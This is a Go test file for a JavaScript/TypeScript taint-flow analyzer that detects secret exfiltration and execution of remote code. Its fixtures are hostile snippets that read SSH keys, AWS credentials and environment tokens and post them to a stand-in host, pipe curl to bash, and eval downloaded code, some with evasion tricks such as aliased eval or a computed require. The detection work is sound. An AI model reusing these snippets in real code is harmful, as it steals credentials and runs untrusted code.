package js_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/metahub-ai/attest/checks/analysis"
	"github.com/metahub-ai/attest/checks/facts"
	"github.com/metahub-ai/attest/checks/facts/flow"
	"github.com/metahub-ai/attest/checks/facts/js"
)

// A case's flows are "label->sink" (a flow from a source with the label
// into a sink of the kind), optionally with " via:X" (the sink's argument
// the value reached). Sinks and effects are the kinds that must appear.
type flowCase struct {
	name   string
	src    string
	path   string   // default "t.js"
	want   []string // flows, sinks ("sink:KIND") and effects ("effect:KIND") that must appear
	absent []string // and must not
}

func has(set *facts.Set, w string) bool {
	switch {
	case strings.HasPrefix(w, "sink:"):
		return slices.ContainsFunc(set.Sinks, func(s facts.Sink) bool { return string(s.Kind) == w[5:] })
	case strings.HasPrefix(w, "effect:"):
		return slices.ContainsFunc(set.Effects, func(x facts.Effect) bool { return string(x.Kind) == w[7:] })
	}
	f, via, _ := strings.Cut(w, " ")
	from, to, _ := strings.Cut(f, "->")
	return slices.ContainsFunc(set.Flows, func(x facts.Flow) bool {
		return string(x.From.Label) == from && string(x.To.Kind) == to && (via == "" || slices.Contains(x.To.Args, via))
	})
}

func describe(s *facts.Set) string {
	var b strings.Builder
	for _, x := range s.Sources {
		fmt.Fprintf(&b, "  source %s %s :%d\n", x.Label, x.What, x.At.Line)
	}
	for _, x := range s.Sinks {
		fmt.Fprintf(&b, "  sink %s %s → %s :%d\n", x.Kind, x.API, x.Dest, x.At.Line)
	}
	for _, x := range s.Flows {
		fmt.Fprintf(&b, "  flow %s → %s %s %v\n", x.From.Label, x.To.Kind, x.To.API, x.To.Args)
	}
	for _, x := range s.Effects {
		fmt.Fprintf(&b, "  effect %s %s\n", x.Kind, x.What)
	}
	for _, x := range s.Unresolved {
		fmt.Fprintf(&b, "  unresolved %s\n", x.What)
	}
	return b.String()
}

func check(t *testing.T, set *facts.Set, want, absent []string) {
	t.Helper()
	for _, w := range want {
		if !has(set, w) {
			t.Errorf("want %s, got:\n%s", w, describe(set))
		}
	}
	for _, w := range absent {
		if has(set, w) {
			t.Errorf("want no %s, got:\n%s", w, describe(set))
		}
	}
}

func TestFlows(t *testing.T) {
	for _, c := range flowCases {
		t.Run(c.name, func(t *testing.T) {
			path := c.path
			if path == "" {
				path = "t.js"
			}
			check(t, analysis.Code("js", path, c.src, 0, 0), c.want, c.absent)
		})
	}
}

var flowCases = []flowCase{
	// what leaves: the environment, credential files, secrets
	{name: "env spread into a fetch body",
		src:  `fetch("https://h.example/c", {method: "POST", body: JSON.stringify({...process.env, host: "x"})})`,
		want: []string{"whole-env->net-send via:data"}},
	{name: "env object destructured",
		src:  "const { GITHUB_TOKEN, HOME } = process.env\nfetch(`https://h.example/c?t=${GITHUB_TOKEN}`)",
		want: []string{"secret-env->net-send"}},
	{name: "credential path joined, read, posted",
		src: `const path = require("path"), os = require("os"), fs = require("fs"), axios = require("axios");
const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
axios.post("https://h.example/k", { key });`,
		want: []string{"credential-store->net-send via:data"}},
	{name: "benign: a config file beside the script",
		src: `const path = require("path"), fs = require("fs"), axios = require("axios");
const cfg = JSON.parse(fs.readFileSync(path.join(__dirname, "config.json"), "utf8"));
axios.post("https://api.example.com/v1", { q: cfg.query });`,
		absent: []string{"credential-store->net-send"}},
	{name: "ES module imports, await, optional chaining",
		src: `import { readFile } from "node:fs/promises";
import os from "os";
const home = os.homedir?.() ?? "/root";
const creds = await readFile(` + "`${home}/.aws/credentials`" + `, "utf8");
await fetch("https://h.example/u", { method: "POST", body: creds });`,
		want: []string{"credential-store->net-send via:data"}},
	{name: "value through a class field and a method",
		src: `const fs = require("fs");
class Reporter {
  url;
  constructor(url) { this.url = url; this.data = fs.readFileSync("/home/u/.aws/credentials", "utf8"); }
  send() { return fetch(this.url, { method: "POST", body: this.data }); }
}
new Reporter("https://h.example/r").send();`,
		want: []string{"credential-store->net-send via:data"}},
	{name: "an arrow in a class field, never called",
		src: `export class Controller {
  run = async (req) => { require("child_process").exec(req.body.cmd); };
  fetchIt = () => fetch("https://h.example/x").then((r) => r.text()).then(eval);
}`,
		want: []string{"remote-content->exec-code"}},
	{name: "TypeScript class with a field initializer",
		path: "t.ts",
		src: `interface Opts { url: string }
export class Sync<T extends object> implements Disposable {
  private readonly token: string = process.env.NPM_TOKEN!;
  constructor(private opts: Opts) {}
  public async push(items: T[]): Promise<void> {
    await fetch(this.opts.url as string, { method: "POST", body: JSON.stringify({ items, t: this.token }) });
  }
}`,
		want: []string{"secret-env->net-send via:data"}},
	{name: "value through a closure",
		src: `function sender(url) { return (data) => fetch(url, { method: "POST", body: data }); }
const send = sender("https://h.example");
send(process.env.AWS_SECRET_ACCESS_KEY);`,
		want: []string{"secret-env->net-send via:data"}},
	{name: "a closure filling a variable it sees",
		src: `const https = require("https");
https.get("https://h.example/stage2", (res) => {
  let body = "";
  res.on("data", (chunk) => { body += chunk; });
  res.on("end", () => { eval(body); });
});`,
		want: []string{"remote-content->exec-code"}},
	{name: "promise then-callbacks",
		src:  `fetch("https://h.example/p.js").then(r => r.text()).then(code => new Function(code)());`,
		want: []string{"remote-content->exec-code"}},
	{name: "node-style callback of a read",
		src: `const fs = require("fs"), net = require("net");
fs.readFile("/home/u/.ssh/id_ed25519", (err, data) => {
  const s = net.connect(443, "x.ngrok.io");
  s.write(data);
});`,
		want: []string{"credential-store->net-send"}},
	{name: "template literal builds the URL",
		src:  "const t = process.env.NPM_TOKEN;\nfetch(`https://h.example/c?t=${encodeURIComponent(t)}&h=${require('os').hostname()}`);",
		want: []string{"secret-env->net-send via:dest", "system-info->net-send"}},
	{name: "base64 before sending",
		src: `const fs = require("fs"), os = require("os"), axios = require("axios");
const data = Buffer.from(fs.readFileSync(os.homedir() + "/.ssh/id_rsa")).toString("base64");
axios.post("https://h.example", { d: data });`,
		want: []string{"credential-store->net-send via:data"}},
	{name: "eval of a decoded constant",
		src:  `eval(atob("Y29uc29sZS5sb2coMSk="));`,
		want: []string{"decoded->exec-code"}},
	{name: "code run by new Function from a download",
		src:  `const r = await fetch("https://h.example/x"); const f = new Function(await r.text()); f();`,
		want: []string{"remote-content->exec-code"}},
	{name: "child_process with a shell string",
		src:  `const { execSync } = require("child_process"); execSync("curl -s https://h.example/i.sh | bash");`,
		want: []string{"remote-content->exec-shell"}},
	{name: "an array of paths read in a loop",
		src: `const fs = require("fs"), os = require("os");
const targets = [".ssh/id_rsa", ".aws/credentials", ".npmrc"];
const out = {};
for (const t of targets) { try { out[t] = fs.readFileSync(os.homedir() + "/" + t, "utf8"); } catch (e) {} }
fetch("https://h.example", { method: "POST", body: JSON.stringify(out) });`,
		want: []string{"credential-store->net-send via:data"}},
	{name: "switch and ternary and comma",
		src: `let where;
switch (process.platform) { case "win32": where = "C:/Users/u/.ssh/id_rsa"; break; default: where = "/home/u/.ssh/id_rsa"; }
const data = (console.log("x"), require("fs").readFileSync(where));
fetch(true ? "https://h.example" : "https://other.example", { method: "PUT", body: data });`,
		want: []string{"credential-store->net-send"}},
	{name: "minified",
		src:  `!function(e,t){var n=require("os"),r=require("fs"),o=r.readFileSync(n.homedir()+"/.aws/credentials","utf8");t(o)}(0,function(e){require("https").request({hostname:"h.example",method:"POST"}).end(e)});`,
		want: []string{"credential-store->net-send"}},
	{name: "JSX keeps its expressions",
		path: "App.jsx",
		src: `export default function App() {
  const leak = () => fetch("https://h.example", { method: "POST", body: localStorage.getItem("t") + process.env.GITHUB_TOKEN });
  return (<div className="app" onClick={leak}>Don't <b>click</b> {"here"}</div>);
}
const after = process.env.AWS_SECRET_ACCESS_KEY; navigator.sendBeacon("https://h.example/b", after);`,
		want: []string{"secret-env->net-send"}},
	{name: "MCP tool handler arguments are user input",
		src: `import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { execSync } from "child_process";
const server = new McpServer({ name: "x", version: "1" });
server.tool("run", { cmd: z.string() }, async ({ cmd }) => ({ content: [{ type: "text", text: execSync(cmd).toString() }] }));`,
		want: []string{"user-input->exec-shell"}},
	{name: "setTimeout runs its callback",
		src:  `setTimeout(() => { require("child_process").exec("curl -s https://h.example/x | sh"); }, 10);`,
		want: []string{"remote-content->exec-shell"}, absent: []string{"effect:delayed"}},
	{name: "a long delay",
		src:  `setTimeout(() => {}, 864000000);`,
		want: []string{"effect:delayed"}},

	{name: "dynamic import of a builtin",
		src:  `import("child_process").then((cp) => cp.exec("curl -s https://h.example/x | sh"));`,
		want: []string{"remote-content->exec-shell"}},
	{name: "an implicit global set in a function",
		src: `function init() { cfg = require("fs").readFileSync("/home/u/.ssh/id_rsa", "utf8"); }
init();
fetch("https://h.example", { method: "POST", body: cfg });`,
		want: []string{"credential-store->net-send"}},
	{name: "for-in over the environment, a label, do-while",
		src: `const out = {};
scan: do { for (const k in process.env) { if (k.startsWith("npm_")) continue scan; out[k] = process.env[k]; } } while (false);
require("axios").post("https://h.example", out);`,
		want: []string{"whole-env->net-send"}},
	{name: "Object.assign and an array spread",
		src:  `const all = Object.assign({}, process.env); const parts = [...Object.values(all), "x"]; navigator.sendBeacon("https://h.example", parts.join(","));`,
		want: []string{"whole-env->net-send"}},
	{name: "a shebang line",
		src:  "#!/usr/bin/env node\nrequire('child_process').execSync('curl -s https://h.example/x | sh')",
		want: []string{"remote-content->exec-shell"}},
	{name: "decorated TypeScript service with a generic call",
		path: "svc.ts",
		src: `import { Injectable } from "@nestjs/common";
@Injectable()
export class Svc {
  constructor(private readonly http: HttpService) {}
  @Cron("* * * * *")
  async tick(): Promise<void> {
    const data = await readFile<string>(homedir() + "/.docker/config.json");
    await this.http.post<unknown>("https://h.example", data!).toPromise();
  }
}
import { readFile } from "fs/promises";
import { homedir } from "os";`,
		want: []string{"credential-store->net-send"}},

	// benign twins
	{name: "benign: API key only in the Authorization header to its API",
		src: `const key = process.env.OPENAI_API_KEY;
fetch("https://api.openai.com/v1/chat/completions", {
  method: "POST",
  headers: { Authorization: ` + "`Bearer ${key}`" + `, "Content-Type": "application/json" },
  body: JSON.stringify({ model: "gpt-4o", messages: [{ role: "user", content: "hi" }] }),
});`,
		want:   []string{"secret-env->net-send via:credential"},
		absent: []string{"secret-env->net-send via:data"}},
	{name: "benign: axios with the key in its config headers",
		src: `import axios from "axios";
const client = axios.create({ baseURL: "https://api.github.com" });
await axios.post("https://api.github.com/repos/o/r/issues", { title: "t" }, { headers: { Authorization: "token " + process.env.GITHUB_TOKEN } });`,
		want:   []string{"secret-env->net-send via:credential"},
		absent: []string{"secret-env->net-send via:data"}},
	{name: "benign: git status",
		src:    `const { execSync } = require("child_process"); console.log(execSync("git status").toString());`,
		absent: []string{"remote-content->exec-shell", "decoded->exec-code"}},

	// evasion
	{name: "evasion: eval aliased",
		src:  `const e = eval; e(atob("Y29uc29sZS5sb2coMSk="));`,
		want: []string{"sink:exec-code", "decoded->exec-code"}},
	{name: "evasion: eval as a computed global",
		src:  `fetch("https://h.example/p").then(r => r.text()).then(c => globalThis["ev" + "al"](c));`,
		want: []string{"remote-content->exec-code"}},
	{name: "evasion: eval's name in a variable",
		src:  `const k = ["e", "v", "a", "l"].join(""); const code = await (await fetch("https://h.example/p")).text(); window[k](code);`,
		want: []string{"remote-content->exec-code"}},
	{name: "evasion: eval handed over as a callback",
		src:  `fetch("https://h.example/p").then((r) => r.text()).then(eval);`,
		want: []string{"remote-content->exec-code"}},
	{name: "evasion: indirect eval",
		src:  `(0, eval)(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());`,
		want: []string{"decoded->exec-code"}},
	{name: "evasion: escaped identifier",
		src:  `\u0065val(atob("Y29uc29sZS5sb2coMSk="));`,
		want: []string{"decoded->exec-code"}},
	{name: "evasion: computed require",
		src:  `const cp = require("child" + "_process"); cp["ex" + "ec"]("curl -s https://h.example/i | sh");`,
		want: []string{"remote-content->exec-shell"}},
	{name: "evasion: renamed destructured import",
		src:  `const { exec: run } = require("child_process"); run("curl -s https://h.example/i | sh");`,
		want: []string{"remote-content->exec-shell"}},
}

// Values cross the artifact's own modules: CommonJS and ES modules,
// named, default and namespace imports.
func TestImports(t *testing.T) {
	cases := []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{"module.exports object", map[string]string{
			"lib/send.js": `const axios = require("axios");
module.exports = { send(data) { return axios.post("https://h.example/c", data); } };`,
			"index.js": `const { send } = require("./lib/send"); send({ env: process.env });`,
		}, []string{"whole-env->net-send"}},
		{"exports.x", map[string]string{
			"util.js":  `exports.upload = function (body) { return fetch("https://h.example/u", { method: "POST", body }); };`,
			"main.js":  `const util = require("./util.js"); util.upload(require("fs").readFileSync("/home/u/.netrc", "utf8"));`,
			"other.js": `const x = 1;`,
		}, []string{"credential-store->net-send"}},
		{"module.exports function", map[string]string{
			"leak.js": `module.exports = (v) => navigator.sendBeacon("https://h.example/b", v);`,
			"main.js": `require("./leak")(process.env.GITHUB_TOKEN);`,
		}, []string{"secret-env->net-send"}},
		{"ES named export", map[string]string{
			"src/util.ts": `export async function upload(body: string): Promise<void> { await fetch("https://h.example/u", { method: "POST", body }); }`,
			"src/main.ts": `import { upload } from "./util";
import { readFileSync } from "node:fs";
void upload(readFileSync("/home/u/.aws/credentials", "utf8"));`,
		}, []string{"credential-store->net-send"}},
		{"ES default and namespace", map[string]string{
			"a.mjs":    `export default function leak(x) { return fetch("https://h.example/" + x); }`,
			"b.mjs":    `const secret = process.env.AWS_SECRET_ACCESS_KEY; export { secret as key };`,
			"main.mjs": `import leak from "./a.mjs"; import * as b from "./b.mjs"; leak(b.key);`,
		}, []string{"secret-env->net-send"}},
		{"re-export", map[string]string{
			"impl.js":  `export const run = (c) => require("child_process").execSync(c);`,
			"index.js": `export { run as go } from "./impl.js";`,
			"main.js":  `import { go } from "./index.js"; fetch("https://h.example/c").then(r => r.text()).then(go);`,
		}, []string{"remote-content->exec-shell"}},
		{"dynamic import", map[string]string{
			"evil.js": `export function boot(u) { return fetch(u).then(r => r.text()).then(t => eval(t)); }`,
			"main.js": `const m = await import("./evil.js"); m.boot("https://h.example/s");`,
		}, []string{"remote-content->exec-code"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { check(t, analysis.Files("js", c.files), c.want, nil) })
	}
}

// The node -e body is lowered by this producer through the shell's.
func TestNodeEval(t *testing.T) {
	set := analysis.Code("shell", "run.sh", `node -e "require('child_process').execSync('curl -s https://h.example/x | sh')"`, 0, 0)
	check(t, set, []string{"remote-content->exec-shell"}, nil)
}

// Lowering shapes the engine depends on.
func TestLowering(t *testing.T) {
	u := js.Lower("t.js", "const a = \"\\x41\\u0042\\u{43}\\104\\n\";\nlet b = `x${a}y${f(1)}z`;\nnew Foo(1).bar();\nimport d, { e as g } from \"m\";\nimport * as ns from \"./n\";\n", 10)
	var strs []string
	var fmts, calls int
	for _, s := range u.Top.Body {
		walkStmt(s, func(x *flow.Expr) {
			switch x.Op {
			case flow.Str:
				strs = append(strs, x.S)
			case flow.Fmt:
				fmts++
				if len(x.Args) != 5 {
					t.Errorf("template parts: got %d, want 5", len(x.Args))
				}
			case flow.Call:
				calls++
				if x.X.Op == flow.Attr && x.X.S == "bar" && (x.X.X.Op != flow.Call || x.X.X.X.S != "Foo") {
					t.Errorf("new Foo(1).bar(): receiver is not a call of Foo")
				}
			}
		})
	}
	if !slices.Contains(strs, "ABCD\n") {
		t.Errorf("string escapes: got %q", strs)
	}
	if fmts != 1 || calls < 3 {
		t.Errorf("templates %d, calls %d", fmts, calls)
	}
	if len(u.Top.Body) == 0 || u.Top.Body[0].Line != 11 {
		t.Errorf("lines are not offset by the base")
	}
	want := []flow.Import{{Local: "d", Module: "m", Member: "default"}, {Local: "g", Module: "m", Member: "e"}, {Local: "ns", Module: "./n"}}
	if len(u.Imports) != len(want) {
		t.Fatalf("imports: %+v", u.Imports)
	}
	for i, w := range want {
		if g := u.Imports[i]; g.Local != w.Local || g.Module != w.Module || g.Member != w.Member {
			t.Errorf("import %d: got %+v, want %+v", i, g, w)
		}
	}
}

// TypeScript's types leave no expressions behind: the annotated program
// lowers to the same statements as the plain one.
func TestTypesSkipped(t *testing.T) {
	plain := `function f(a, b = 1) { return a + b }
const x = f(2)
class C { m(y) { return y } }
let z = x`
	typed := `type U = string | number
interface I { a: U; b?: Array<Map<string, number>> }
declare const ext: { k: string }
function f<T extends U>(a: T, b: number = 1): T | undefined { return a + b }
const x = f<number>(2) as number
@decorated() abstract class C<T> implements I { private a!: U; m(y: T): T { return y! } }
let z: typeof x = x satisfies number
enum E { A }`
	count := func(src string) (defs, assigns, classes int) {
		for _, s := range js.Lower("t.ts", src, 0).Top.Body {
			switch s.Op {
			case flow.Def:
				defs++
			case flow.Assign:
				assigns++
			case flow.Class:
				classes++
			}
		}
		return
	}
	pd, pa, pc := count(plain)
	td, ta, tc := count(typed)
	// the typed program adds the enum's assignment
	if pd != td || pa+1 != ta || pc != tc {
		t.Errorf("plain: %d defs %d assigns %d classes; typed: %d %d %d", pd, pa, pc, td, ta, tc)
	}
}

// Statement-level lowering: ASI after return, hoisted declarations,
// decorators and this, enums, exports.
func TestStatements(t *testing.T) {
	u := js.Lower("t.ts", `f();
function f() { return
  secret }
@Component({ selector: "x" })
class C { @Input() name = 1; @HostListener("click") on(e) {} static make() {} }
enum Color { Red, Green = "g" }
export default f
module.exports.extra = 1`, 0)
	b := u.Top.Body
	if len(b) == 0 || b[0].Op != flow.Assign || b[0].Dst[0].S != "module.exports" {
		t.Fatalf("the exports object does not come first")
	}
	if b[1].Op != flow.Def || b[1].Fn.Name != "f" {
		t.Fatalf("the function declaration is not hoisted: %+v", b[1])
	}
	if r := b[1].Fn.Body; len(r) != 1 || r[0].Op != flow.Return || r[0].Val != nil {
		t.Errorf("return followed by a line break returns nothing: %+v", r)
	}
	var cls, enum, dflt *flow.Stmt
	for _, s := range b {
		switch {
		case s.Op == flow.Class:
			cls = s
		case s.Op == flow.Assign && s.Dst[0].S == "Color":
			enum = s
		case s.Op == flow.Assign && s.Dst[0].S == "default":
			dflt = s
		}
	}
	if cls == nil || len(cls.Fn.Decorators) != 1 || cls.Fn.Decorators[0].Op != flow.Call {
		t.Fatalf("class decorators: %+v", cls)
	}
	for _, m := range cls.Fn.Body {
		if m.Op != flow.Def {
			continue
		}
		self := len(m.Fn.Params) > 0 && m.Fn.Params[0].Name == "this"
		if m.Fn.Name == "make" && self || m.Fn.Name == "on" && (!self || len(m.Fn.Decorators) != 1 || m.Fn.Class != "C") {
			t.Errorf("method %s: params %+v decorators %d class %q", m.Fn.Name, m.Fn.Params, len(m.Fn.Decorators), m.Fn.Class)
		}
	}
	if enum == nil || enum.Val.Op != flow.Dict || len(enum.Val.Keys) != 2 || enum.Val.Keys[1] != "Green" {
		t.Errorf("enum: %+v", enum)
	}
	if dflt == nil || dflt.Val.S != "f" {
		t.Errorf("export default: %+v", dflt)
	}
}

// Input past the limits is recorded as not followed, never dropped in
// silence.
func TestLimits(t *testing.T) {
	deep := js.Lower("t.js", strings.Repeat("(", 5000)+"x"+strings.Repeat(")", 5000), 0)
	if len(deep.Unresolved) == 0 {
		t.Errorf("deep nesting is not recorded")
	}
	big := js.Lower("t.js", "eval(x);"+strings.Repeat(" ", js.MaxBytes), 0)
	if len(big.Unresolved) == 0 || len(big.Top.Body) != 1 {
		t.Errorf("source past MaxBytes: %+v", big.Unresolved)
	}
	tmpl := js.Lower("t.js", strings.Repeat("`${", 100)+"x", 0)
	if len(tmpl.Unresolved) == 0 {
		t.Errorf("deeply nested templates are not recorded")
	}
}

func walkStmt(s *flow.Stmt, f func(*flow.Expr)) {
	visit := func(x *flow.Expr) {
		flow.Walk(x, func(n *flow.Expr) bool {
			f(n)
			if n.Fn != nil {
				for _, b := range n.Fn.Body {
					walkStmt(b, f)
				}
			}
			return true
		})
	}
	for _, d := range s.Dst {
		visit(d)
	}
	visit(s.Val)
	for _, b := range s.Body {
		walkStmt(b, f)
	}
	if s.Fn != nil {
		for _, b := range s.Fn.Body {
			walkStmt(b, f)
		}
	}
}
